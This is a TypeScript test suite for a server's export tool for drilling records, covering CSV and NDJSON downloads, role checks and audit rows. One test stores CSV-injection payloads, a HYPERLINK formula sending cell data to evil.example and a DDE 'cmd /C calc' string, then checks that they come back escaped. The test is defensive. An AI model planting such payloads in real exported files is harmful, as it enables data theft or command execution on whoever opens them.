import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { identity, restCall, startTestServer } from "../helpers/server.ts";
import type { TestServer } from "../helpers/server.ts";

let server: TestServer;
before(async () => (server = await startTestServer()));
after(() => server.close());

test("export_all_data attaches the CSV; soft-deleted rows are left out", async () => {
  await restCall(server.url, identity("ADMIN"), "delete_drilling_record", { record_id: 3 });
  const { status, body } = await restCall(server.url, identity("ADMIN"), "export_all_data", {
    max_rows: 50000,
  });
  assert.equal(status, 200);
  const live = Number(
    (await server.db.execute("SELECT count(*) AS n FROM drilling_daily WHERE deleted_at IS NULL"))
      .rows[0].n,
  );
  assert.equal(body.result.total_rows, live);
  assert.equal(body.result.complete, true, JSON.stringify(body.result));
  const csv: string = body.content[0].resource.text;
  const lines = csv.trimEnd().split("\r\n");
  assert.equal(lines.length, live + 1);
  assert.ok(lines[0].startsWith("\uFEFFid,well_id,report_date"));
  assert.ok(!lines.some((l) => l.startsWith("3,")), "deleted record 3 not exported");
});

test("a partial inline export says so; the streaming download holds every row; USER is refused", async () => {
  const { body } = await restCall(server.url, identity("ADMIN"), "export_all_data", {
    max_rows: 10,
  });
  assert.equal(body.result.included_rows, 10);
  assert.equal(body.result.complete, false);
  assert.match(body.text, /GET \/export\/drilling_daily\.csv/);
  const res = await fetch(`${server.url}${body.result.download_path}`, {
    headers: identity("ADMIN"),
  });
  assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
  const lines = (await res.text()).trim().split("\r\n");
  assert.equal(lines.length, body.result.total_rows + 1);
  const refused = await fetch(`${server.url}/export/drilling_daily.csv`, {
    headers: identity("USER"),
  });
  assert.equal(refused.status, 403);
  assert.equal(
    (await refused.json()).message,
    "权限不足：用户角色 USER 无权访问工具 export_all_data",
  );
});

test("a formula saved by an ENGINEER comes back escaped from every CSV the server writes (over HTTP)", async () => {
  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
  const engineer = identity("ENGINEER");
  const wells = await restCall(server.url, engineer, "list_wells", { limit: 1 });
  const wellId = JSON.stringify(wells.body).match(/"well_id":"([^"]+)"/)![1];
  const saved = await restCall(server.url, engineer, "add_drilling_record", {
    well_id: wellId,
    report_date: "2031-01-02",
    main_work: formula,
    lithology: "@SUM(1+1)*cmd|' /C calc'!A0",
  });
  assert.equal(saved.status, 200, JSON.stringify(saved.body));
  const res = await fetch(`${server.url}/export/drilling_daily.csv`, {
    headers: identity("ADMIN"),
  });
  const csv = await res.text();
  const inline =
    (await restCall(server.url, identity("ADMIN"), "export_all_data", { max_rows: 50000 })).body
      .content[0].resource.text as string;
  for (const [where, text] of [["/export/drilling_daily.csv", csv], ["export_all_data", inline]]) {
    const line = text.split("\r\n").find((l) => l.includes("evil.example"));
    assert.ok(line, where);
    assert.ok(
      line.includes(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")"`),
      `${where}: ${line}`,
    );
    assert.ok(line.includes(`,'@SUM(1+1)*cmd|' /C calc'!A0,`), `${where}: ${line}`);
    // No cell of the file starts a formula: every field is checked, quoted or not.
    for (const l of text.split("\r\n")) assert.doesNotMatch(l, /(^|,)"?[=+@\t]/, `${where}: ${l}`);
  }
});

test("format json names an NDJSON download that serves every live row, as the inline JSON has them", async () => {
  const { status, body } = await restCall(server.url, identity("ADMIN"), "export_all_data", {
    table: "wells",
    format: "json",
    max_rows: 50000,
  });
  assert.equal(status, 200, JSON.stringify(body));
  assert.equal(body.result.download_path, "/export/wells.ndjson");
  const inline = JSON.parse(body.content[0].resource.text) as Record<string, unknown>[];
  const res = await fetch(`${server.url}${body.result.download_path}`, {
    headers: identity("ADMIN"),
  });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get("content-type"), "application/x-ndjson; charset=utf-8");
  const lines = (await res.text()).split("\n");
  assert.equal(lines.pop(), "", "every line ends with a newline");
  assert.equal(lines.length, body.result.total_rows);
  assert.deepEqual(lines.map((line) => JSON.parse(line)), inline);
  const refused = await fetch(`${server.url}/export/wells.ndjson`, {
    headers: identity("ENGINEER"),
  });
  assert.equal(refused.status, 403);
});

test("every download leaves one audit row: a whole one ok, a refused one denied", async () => {
  // Callers of their own: the other tests' audit rows may still be on their way to the table.
  const admin = identity("ADMIN", "audit-admin@example.com", "audit-download-admin");
  const user = identity("USER", "audit-user@example.com", "audit-download-user");
  const res = await fetch(`${server.url}/export/wells.csv`, { headers: admin });
  await res.text();
  assert.equal((await fetch(`${server.url}/export/wells.csv`, { headers: user })).status, 403);
  let rows: Record<string, unknown>[] = [];
  for (let i = 0; i < 500 && rows.length < 2; i++) {
    await new Promise((resolve) => setTimeout(resolve, 20));
    rows = (await server.db.execute(
      "SELECT role, outcome, arguments FROM audit_log WHERE tool = 'export_all_data' AND user_id IN (?, ?) ORDER BY id",
      [admin["X-User-ID"], user["X-User-ID"]],
    )).rows;
  }
  // The two rows are written by the audit queue in either order.
  assert.deepEqual(
    rows.map((r) => [r.role, r.outcome, JSON.parse(String(r.arguments)).download]).sort(),
    [
      ["ADMIN", "ok", "/export/wells.csv"],
      ["USER", "denied", "/export/wells.csv"],
    ],
  );
});
